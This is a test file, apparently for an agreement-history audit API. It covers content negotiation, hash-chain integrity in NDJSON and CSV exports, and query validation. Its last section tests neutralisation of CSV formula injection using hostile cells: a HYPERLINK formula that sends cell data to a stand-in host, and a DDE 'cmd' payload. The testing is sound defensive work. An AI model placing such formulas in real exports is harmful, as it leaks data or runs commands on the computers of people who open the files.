import { createHash } from 'node:crypto';
import { canonicalize } from 'json-canonicalize';
import { describe, expect, test } from 'vitest';
import { CSV_COLUMNS, toCsv } from '../../../functions/operations/agreement-history.js';
import { appendEvents, EMPTY_CHAIN } from '../../../shared/domain/hash-chain.js';
import { toNdjson } from '../../../shared/domain/history-ndjson.js';
import { csvField, negotiateRepresentation } from '../../../shared/http/representations.js';
import { ZAuditQuery, ZHistoryQuery } from '../../../shared/schemas/audit.js';
import { parseCsv } from '../../integration/audit-fixtures.js';

const events = appendEvents(EMPTY_CHAIN, [
  {
    agreementId: '01AGR',
    at: '2022-07-26T09:30:00.000Z',
    action: 'SIGNATURE_DECLINED',
    party: 'AZE',
    actor: { sub: 'secretariat-1', role: 'secretariat' },
    data: { reason: 'Needs ratification, "first"\nthen: İlham Əliyev', previousStatus: 'pending' },
    requestId: 'req-1',
  },
  {
    agreementId: '01AGR',
    at: '2022-07-26T09:31:00.000Z',
    action: 'AGREEMENT_OPENED',
    actor: { sub: 'secretariat-1', role: 'secretariat' },
    data: {},
    requestId: 'req-2',
  },
]);

describe('history representations', () => {
  test.each([
    [undefined, 'json'],
    ['', 'json'],
    ['*/*', 'json'],
    ['application/json', 'json'],
    ['application/x-ndjson', 'ndjson'],
    ['application/ndjson', 'ndjson'],
    ['text/csv', 'csv'],
    ['text/*', 'csv'],
    ['application/x-ndjson, */*;q=0.1', 'ndjson'],
    ['application/x-ndjson, */*', 'ndjson'],
    ['text/csv;q=0.5, application/x-ndjson;q=0.9', 'ndjson'],
    ['application/json;q=0.2, text/csv', 'csv'],
    ['text/csv;q=0', 'json'],
    ['image/png', 'json'],
    ['text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', 'json'],
  ])('Accept %j → %s', (accept, format) => {
    expect(negotiateRepresentation(accept)).toBe(format);
  });

  test('NDJSON: one event per line, each re-hashable with an independent JCS', () => {
    const lines = toNdjson(events).split('\n');
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(2);
    for (const line of lines) {
      const { hash, ...unhashed } = JSON.parse(line);
      expect(createHash('sha256').update(canonicalize(unhashed), 'utf8').digest('hex')).toBe(hash);
    }
  });

  test('CSV: RFC 4180 quoting, CRLF rows, data kept as JSON', () => {
    const csv = toCsv(events);
    const rows = csv.split('\r\n');
    expect(rows[0]).toBe(CSV_COLUMNS.join(','));
    expect(rows.at(-1)).toBe('');
    const first = events[0]!;
    expect(csv).toContain(
      `1,2022-07-26T09:30:00.000Z,SIGNATURE_DECLINED,AZE,secretariat-1,secretariat,,req-1,${first.prevHash},${first.hash},`,
    );
    expect(csv).toContain(csvField(JSON.stringify(first.data)));
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line\r\nbreak')).toBe('"line\r\nbreak"');
    expect(csvField('plain Қазақстан')).toBe('plain Қазақстан');
  });
});

describe('query schemas', () => {
  const bad = (input: Record<string, string>) =>
    expect(ZAuditQuery.safeParse(input).success).toBe(false);

  test('accepts the documented parameters and normalises times to UTC', () => {
    expect(
      ZAuditQuery.parse({
        from: '2022-07-26T15:30:00+06:00',
        to: '2022-07-27T00:00:00Z',
        action: 'SIGNATURE_RECORDED',
        party: 'KGZ',
        actor: 'b3f1c2d4-0000-4000-8000-000000000000',
        limit: '100',
      }),
    ).toEqual({
      from: '2022-07-26T09:30:00.000Z',
      to: '2022-07-27T00:00:00.000Z',
      action: 'SIGNATURE_RECORDED',
      party: 'KGZ',
      actor: 'b3f1c2d4-0000-4000-8000-000000000000',
      limit: 100,
    });
    expect(ZHistoryQuery.parse({})).toEqual({ limit: 20 });
  });

  test('rejects bad limits, times, actions, parties, actors and unknown parameters', () => {
    for (const limit of ['0', '101', '1.5', 'ten', '-1']) bad({ limit });
    for (const from of ['yesterday', '2022-07-26', '2022-07-26T15:30:00', '1969-12-31T23:59:59Z'])
      bad({ from });
    bad({ from: '2022-07-27T00:00:00Z', to: '2022-07-26T00:00:00Z' });
    bad({ from: '2022-07-27T00:00:00Z', to: '2022-07-27T00:00:00Z' });
    bad({ action: 'SIGNATURE_FORGED' });
    bad({ action: 'SIGNATURE_RECORDED,AGREEMENT_OPENED' });
    bad({ party: 'aze' });
    bad({ actor: 'has space' });
    bad({ actor: '' });
    bad({ actors: 'x' });
    expect(ZHistoryQuery.safeParse({ limit: '0' }).success).toBe(false);
    expect(ZHistoryQuery.safeParse({ from: '2022-07-26T00:00:00Z' }).success).toBe(false);
  });
});

describe('CSV export against formula injection', () => {
  test('CSV: a cell a spreadsheet would run as a formula is neutralised (OWASP)', () => {
    for (const hostile of ['=HYPERLINK("http://x/?"&A1)', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx']) {
      expect(csvField(hostile)).toBe(`"'${hostile.replaceAll('"', '""')}"`);
    }
    // A leading quote is escaped too, so that reading drops exactly one quote, always.
    expect(csvField("'=already")).toBe(`"''=already"`);
    expect(csvField('x=1')).toBe('x=1');
  });

  test('CSV: the chain re-hashes from the cells, with one leading quote dropped from neutralised ones', () => {
    const hostileSubs = ["=cmd|' /C calc'!A0", '@evil', "'quoted", '-1', '+x', '\tTAB'];
    const chain = appendEvents(
      EMPTY_CHAIN,
      hostileSubs.map((sub, index) => ({
        agreementId: '01AGR',
        at: `2022-07-26T09:3${index}:00.000Z`,
        action: 'SIGNATURE_DECLINED' as const,
        party: 'AZE',
        actor: { sub, role: 'member' as const, party: 'AZE' },
        data: { reason: `=1+${index}` },
        requestId: `-req-${index}`,
      })),
    );
    const [header, ...rows] = parseCsv(toCsv(chain));
    const cell = (row: string[], column: (typeof CSV_COLUMNS)[number]) => {
      const value = row[header!.indexOf(column)]!;
      return value.startsWith("'") ? value.slice(1) : value;
    };
    rows.forEach((row, index) => {
      for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
      const event = {
        agreementId: '01AGR',
        seq: Number(cell(row, 'seq')),
        at: cell(row, 'at'),
        action: cell(row, 'action'),
        ...(cell(row, 'party') && { party: cell(row, 'party') }),
        actor: {
          sub: cell(row, 'actor.sub'),
          role: cell(row, 'actor.role'),
          ...(cell(row, 'actor.party') && { party: cell(row, 'actor.party') }),
        },
        data: JSON.parse(cell(row, 'data')),
        requestId: cell(row, 'requestId'),
        prevHash: cell(row, 'prevHash'),
      };
      expect(event.actor.sub).toBe(hostileSubs[index]);
      const hash = createHash('sha256').update(canonicalize(event), 'utf8').digest('hex');
      expect(hash).toBe(cell(row, 'hash'));
      expect(hash).toBe(chain[index]!.hash);
    });
  });
});
